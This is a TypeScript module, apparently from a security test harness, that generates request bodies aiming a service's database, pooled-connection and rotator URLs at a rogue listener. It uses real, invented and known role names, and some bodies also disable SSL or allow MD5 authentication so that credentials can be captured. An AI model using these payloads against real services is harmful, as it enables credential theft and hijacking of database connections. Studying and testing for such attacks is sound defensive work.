// Where the address of the rogue server is put, for each placement.
import type { RogueListener } from './rogue-server.ts';
import type { TargetFields } from './routes.ts';
import type { Attacker } from './stage.ts';
import { type Channel, type Theatre, typedPassword } from './theatre.ts';

export const PLACEMENTS = ['direct', 'pooled', 'rotator', 'redirected'] as const;
export type Placement = (typeof PLACEMENTS)[number];

export interface Wanted {
  theatre: Theatre;
  placement: Placement;
  attacker: Attacker;
  /** Where the attacker's own login lives. */
  ownChannel: Channel;
  /** Roles of others that the attacker knows by name. */
  roles: readonly string[];
  rogue: RogueListener;
  /** One address of the true server is enough. */
  isSmall: boolean;
}

/** Bodies that lead to the rogue server: for a login to adopt, and for one that is kept. */
export function aimAt({ theatre, placement, attacker, ownChannel, roles, rogue, isSmall }: Wanted): { targets: TargetFields[]; changes: TargetFields[] } {
  const { relays, url } = theatre;
  const ownRelay = relays[ownChannel];
  if (!ownRelay) throw new Error(`there is no address ${ownChannel}`);
  const shared = isSmall ? [ownRelay] : Object.entries(relays).flatMap(([channel, relay]) => (channel === 'pooler' ? [] : [relay]));
  const user = attacker.own.user ?? 'mallory_nobody';
  const ghost = `ghost_${crypto.randomUUID().slice(0, 8)}`;
  const own = url(ownRelay, user);
  /** With a login that is true, and with one that is made up. */
  const everywhere = (more: (name: string) => TargetFields): TargetFields[] =>
    shared.flatMap((relay) => [user, ghost].map((name) => ({ connection_url: url(relay, name), ...more(name) })));
  switch (placement) {
    case 'direct': {
      const names = [user, ghost, ...roles];
      const changes = names.map((name) => ({ connection_url: url(rogue, name, typedPassword(name)) }));
      return {
        targets: [...changes, { connection_url: url(rogue, ghost), ssl_mode: 'disable' }],
        changes: [...changes, { connection_url: url(rogue, user), ssl_mode: 'disable' }],
      };
    }
    case 'pooled': {
      const pooled = (name: string) => ({ pooled_connection_url: url(rogue, name) });
      const changes = [pooled(user), { connection_url: own, ...pooled(user) }, { connection_url: own, ...pooled(user), ssl_mode: 'disable' }];
      return { targets: everywhere(pooled), changes };
    }
    case 'rotator': {
      const rotators = [rogue, ownRelay].map((address) => ({ rotator_url: url(address, `${ghost}_rotator`) }));
      return {
        targets: rotators.flatMap((rotator) => everywhere(() => rotator)),
        changes: rotators.flatMap((rotator) => [rotator, { connection_url: own, ...rotator }]),
      };
    }
    case 'redirected':
      return {
        targets: everywhere(() => ({})),
        changes: [{ connection_url: own }, { allows_md5: true }, { ssl_mode: 'disable' }, { connection_url: own, allows_md5: true }],
      };
  }
}
